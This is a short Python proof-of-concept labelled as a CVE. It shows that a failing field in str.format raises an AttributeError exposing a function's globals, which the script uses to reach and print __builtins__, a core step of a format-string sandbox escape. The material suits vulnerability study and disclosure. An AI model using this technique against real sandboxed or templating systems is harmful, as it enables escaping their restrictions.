# CVE-2026-0863: a failing field raises an error that carries the live object.
def f():
    pass
try:
    "{0.__globals__.missing}".format(f)
except AttributeError as e:
    print("PWNED", e.obj["__builtins__"])
